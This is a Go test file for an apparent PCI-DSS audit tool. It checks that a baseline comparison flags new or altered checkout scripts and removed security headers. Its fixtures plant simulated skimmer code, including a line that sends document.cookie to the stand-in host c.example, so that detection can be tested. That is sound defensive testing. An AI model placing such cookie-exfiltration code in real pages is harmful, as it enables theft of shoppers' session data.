package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/audit-tool/audit/baseline"
	"github.com/audit-tool/audit/fleet"
	"github.com/audit-tool/audit/outcome"
	"github.com/audit-tool/audit/reports"
	"github.com/audit-tool/audit/store"
)

// shopPage is a checkout served from 127.0.0.1 whose scripts and headers a
// test changes between runs, as a compromised deployment would.
type shopPage struct {
	mu      sync.Mutex
	scripts map[string]string // path → body, each loaded by the page
	order   []string
	headers map[string]string
	served  int
}

func newShopPage() *shopPage {
	p := &shopPage{}
	p.reset()
	return p
}

// reset puts the page back as first deployed.
func (p *shopPage) reset() {
	p.mu.Lock()
	p.scripts, p.order = map[string]string{}, nil
	p.headers = map[string]string{
		// A fresh nonce per response, as strict CSPs have it: not a change.
		"Content-Security-Policy": "script-src 'self' 'nonce-{nonce}'; frame-ancestors 'none'",
		"X-Frame-Options":         "DENY",
		"Referrer-Policy":         "strict-origin",
	}
	p.mu.Unlock()
	p.addScript("/assets/app.js", "document.getElementById('pay').dataset.ready = '1';")
}

func (p *shopPage) addScript(path, body string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if _, ok := p.scripts[path]; !ok {
		p.order = append(p.order, path)
	}
	p.scripts[path] = body
}

func (p *shopPage) dropHeader(name string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	delete(p.headers, name)
}

func (p *shopPage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if body, ok := p.scripts[r.URL.Path]; ok {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, body)
		return
	}
	if r.URL.Path != "/checkout" {
		http.NotFound(w, r)
		return
	}
	p.served++
	nonce := fmt.Sprintf("n%dx%d", p.served, time.Now().UnixNano())
	for k, v := range p.headers {
		w.Header().Set(k, strings.ReplaceAll(v, "{nonce}", nonce))
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	var tags strings.Builder
	for _, s := range p.order {
		fmt.Fprintf(&tags, "<script src=%q></script>\n", s)
	}
	// Card fields posting to the merchant: SAQ D, where 11.6.1 applies.
	fmt.Fprintf(w, `<!doctype html><html><head><title>Checkout</title></head><body>
<form id="pay" action="/orders/pay" method="post">
<label for="cc">Card number</label><input id="cc" name="cardnumber" autocomplete="cc-number">
<input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">
<button>Pay</button></form>
<script nonce="%s">window.cart = {total: 42};</script>
%s</body></html>`, nonce, tags.String())
}

// changeRun runs the 11.6.1 step against the page with the baseline file.
func changeRun(t *testing.T, url, file string, allow string) reports.Step {
	t.Helper()
	code, steps := runJSON(t, "run", t.TempDir(), "--checklist", "pci-dss", "--offline", "--engine", "browser",
		"--only", "pci-dss.page_change_detection,pci-dss.saq_scope",
		"--baseline", file, "--var", "checkout_page="+url, "--var", `source_dirs=["`+t.TempDir()+`"]`,
		"--var", "script_allowlist="+allow)
	st, ok := steps["pci-dss.page_change_detection"]
	require.True(t, ok, "code %d: %v", code, steps)
	require.Equal(t, reports.Pass, steps["pci-dss.saq_scope"].Status, steps["pci-dss.saq_scope"].Message)
	require.Contains(t, steps["pci-dss.saq_scope"].Message, "SAQ D")
	return st
}

// TestBaselineChangeDetection drives `audit run --baseline` twice through
// Chromium, the page probe and the 11.6.1 step: the first run records the
// page; after a change the second fails with the diff as evidence, unless
// the allowlist covers it.
func TestBaselineChangeDetection(t *testing.T) {
	const justified = `[{ script = "/assets/app.js", reason = "checkout logic, reviewed in SEC-7" }]`
	tests := []struct {
		name   string
		change func(p *shopPage)
		allow  string
		want   reports.Status
		detail string // evidence that must be present
	}{
		{"unchanged", func(*shopPage) {}, justified, reports.Pass, ""},
		{"new script", func(p *shopPage) { p.addScript("/assets/skim.js", "new Image().src='/c?'+1;") }, justified,
			reports.Fail, "script_added {url}/assets/skim.js: new script sha256-"},
		{"changed hash", func(p *shopPage) { p.addScript("/assets/app.js", "fetch('/c',{method:'POST'});") }, justified,
			reports.Fail, "script_changed {url}/assets/app.js: sha256-"},
		{"dropped header", func(p *shopPage) { p.dropHeader("Content-Security-Policy") }, justified,
			reports.Fail, "header_removed content-security-policy: was: script-src 'self' 'nonce-*'; frame-ancestors 'none'"},
		{"new script in the allowlist", func(p *shopPage) { p.addScript("/assets/chat.js", "void 0;") },
			`[{ script = "/assets/app.js", reason = "checkout logic" }, { script = "/assets/chat.js", reason = "support chat, SEC-9" }]`,
			reports.Pass, "authorised script_added {url}/assets/chat.js: new script sha256-"},
		{"new hash of a dynamic entry", func(p *shopPage) { p.addScript("/assets/app.js", "void 1;") },
			`[{ script = "/assets/app.js", reason = "rebuilt on every deploy", dynamic = true }]`,
			reports.Pass, "authorised script_changed {url}/assets/app.js: sha256-"},
		{"new hash of a fixed entry", func(p *shopPage) { p.addScript("/assets/app.js", "void 2;") }, justified,
			reports.Fail, "script_changed {url}/assets/app.js: sha256-"},
	}
	// One server, one recorded baseline: each case starts from a copy of
	// it and changes the page.
	page := newShopPage()
	srv := httptest.NewServer(page)
	defer srv.Close()
	url := srv.URL + "/checkout"
	recorded := filepath.Join(t.TempDir(), "baseline.json")
	first := changeRun(t, url, recorded, justified)
	require.Equal(t, reports.Pass, first.Status, first.Message)
	assert.Contains(t, first.Message, "Baseline recorded in "+recorded)
	b, err := baseline.Load(recorded)
	require.NoError(t, err)
	rec, ok := b.Pages[url]
	require.True(t, ok, "recorded under the page's source: %v", b.Pages)
	assert.Equal(t, "browser", rec.Engine)
	require.Len(t, rec.Scripts, 2)
	assert.Equal(t, srv.URL+"/assets/app.js", rec.Scripts[1].Key)
	assert.Equal(t, "script-src 'self' 'nonce-*'; frame-ancestors 'none'", rec.Headers["content-security-policy"])
	assert.Equal(t, "DENY", rec.Headers["x-frame-options"])
	raw, err := os.ReadFile(recorded)
	require.NoError(t, err)

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			page.reset()
			file := filepath.Join(t.TempDir(), "baseline.json")
			require.NoError(t, os.WriteFile(file, raw, 0o644))
			tt.change(page)
			st := changeRun(t, url, file, tt.allow)
			assert.Equal(t, tt.want, st.Status, st.Message)
			var details []string
			for _, e := range st.Evidence {
				details = append(details, e.Detail)
				assert.Equal(t, file, e.Source)
			}
			if tt.detail != "" {
				want := strings.ReplaceAll(tt.detail, "{url}", srv.URL)
				found := false
				for _, d := range details {
					found = found || strings.HasPrefix(d, want) || strings.Contains(d, " "+want)
				}
				assert.True(t, found, "want evidence %q in %q", want, details)
			}
			if tt.want == reports.Fail {
				assert.Contains(t, st.Message, "not covered by script_allowlist")
			} else {
				assert.Contains(t, st.Message, "No unauthorised change since the baseline of")
			}
			// A comparison never rewrites the record it compares with.
			after, err := os.ReadFile(file)
			require.NoError(t, err)
			assert.JSONEq(t, string(raw), string(after))
		})
	}
}

// TestBaselineUnreadable: a baseline that cannot be parsed leaves the step
// in error, never a pass, and is not overwritten.
func TestBaselineUnreadable(t *testing.T) {
	srv := httptest.NewServer(newShopPage())
	defer srv.Close()
	file := filepath.Join(t.TempDir(), "baseline.json")
	require.NoError(t, os.WriteFile(file, []byte(`{"version": 1, "pages": {`), 0o644))
	_, steps := runJSON(t, "run", t.TempDir(), "--checklist", "pci-dss", "--offline", "--engine", "browser",
		"--only", "pci-dss.page_change_detection", "--baseline", file,
		"--var", "checkout_page="+srv.URL+"/checkout", "--var", `source_dirs=["`+t.TempDir()+`"]`)
	st := steps["pci-dss.page_change_detection"]
	assert.Equal(t, reports.Error, st.Status, st.Message)
	assert.Contains(t, st.Message, file+":1:")
	raw, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.Equal(t, `{"version": 1, "pages": {`, string(raw))
	var v any
	assert.Error(t, json.Unmarshal(raw, &v))
}

// TestFleetBaselineInStore: `audit fleet run --baseline` keeps each
// merchant's page in the store. The first fleet run records both pages; a
// week later the one whose bundle changed fails 11.6.1 with the diff, the
// other passes; the store row is the record compared with, not rewritten.
func TestFleetBaselineInStore(t *testing.T) {
	t.Setenv(envStore, "")
	t.Setenv(envFleetRun, "")
	t.Setenv(fleet.EnvIndex, "")
	dir := t.TempDir()
	// Card fields posting to the merchant (SAQ D, where 11.6.1 applies),
	// the same built page for both: the store keeps them apart.
	page := `<!doctype html><html><head><title>Pay</title></head><body>
<form action="/orders/pay" method="post"><input name="cardnumber" autocomplete="cc-number">
<input name="cvc" autocomplete="cc-csc"><button>Pay</button></form>
<script src="/assets/app.js"></script></body></html>`
	for _, m := range []string{"north", "south"} {
		writeFiles(t, filepath.Join(dir, m), map[string]string{
			"dist/checkout.html": page, "dist/assets/app.js": "window.shop = 1;\n", "src/app.js": "export {};\n",
		})
	}
	path := filepath.Join(dir, "fleet.hcl")
	require.NoError(t, os.WriteFile(path, []byte(`
merchant "north" {
  path = "north"
  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
}
merchant "south" {
  path = "south"
  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
}
`), 0o644))
	db := "sqlite://" + filepath.Join(dir, defaultStoreFile)
	step := func(t *testing.T, out, merchant string) reports.Step {
		t.Helper()
		raw, err := os.ReadFile(filepath.Join(out, merchant, "audit.json"))
		require.NoError(t, err)
		var res reports.Result
		require.NoError(t, json.Unmarshal(raw, &res))
		for _, s := range res.Steps {
			if s.ID == "pci-dss.page_change_detection" {
				return s
			}
		}
		t.Fatalf("%s: no 11.6.1 step in %s", merchant, raw)
		return reports.Step{}
	}
	fleetRun := func(t *testing.T, run, now string) string {
		t.Helper()
		out := filepath.Join(dir, "out-"+run)
		_, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--engine", "browser", "--baseline",
			"--fleet-run", run, "--now", now, "--only", "pci-dss.page_change_detection", "--format", "json", "--out", out)
		require.NotContains(t, stderr, "merchant north:", stderr)
		require.NotContains(t, stderr, "merchant south:", stderr)
		return out
	}

	out := fleetRun(t, "w47", "2026-11-23T10:00:00Z")
	for _, m := range []string{"north", "south"} {
		st := step(t, out, m)
		assert.Equal(t, reports.Pass, st.Status, st.Message)
		assert.Contains(t, st.Message, "Baseline recorded in "+db+" (merchant "+m+")")
	}
	s, err := store.Open(context.Background(), db)
	require.NoError(t, err)
	blob, at, err := s.Baseline(context.Background(), "north", "dist/checkout.html")
	require.NoError(t, err)
	assert.Equal(t, fleetNow, at.UTC())
	rec, err := baseline.Parse(blob, "north")
	require.NoError(t, err)
	require.Len(t, rec.Pages["dist/checkout.html"].Scripts, 1)
	assert.Equal(t, "/assets/app.js", rec.Pages["dist/checkout.html"].Scripts[0].Key)
	s.Close()

	require.NoError(t, os.WriteFile(filepath.Join(dir, "north", "dist", "assets", "app.js"),
		[]byte("window.shop = 1; new Image().src = 'https://c.example/?' + document.cookie;\n"), 0o644))
	out = fleetRun(t, "w48", "2026-11-30T10:00:00Z")
	north := step(t, out, "north")
	assert.Equal(t, reports.Fail, north.Status, north.Message)
	assert.Contains(t, north.Message, "since the baseline of 2026-11-23T10:00:00Z")
	require.NotEmpty(t, north.Evidence)
	assert.Contains(t, north.Evidence[0].Detail, "script_changed /assets/app.js: sha256-")
	assert.Equal(t, db+" (merchant north)", north.Evidence[0].Source)
	south := step(t, out, "south")
	assert.Equal(t, reports.Pass, south.Status, south.Message)
	assert.Contains(t, south.Message, "No unauthorised change since the baseline of 2026-11-23T10:00:00Z")

	// A fleet's merchants cannot share one file.
	code, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--baseline=page.json")
	assert.Equal(t, outcome.ExitUsage, code)
	assert.Contains(t, stderr, "give --baseline alone")
}
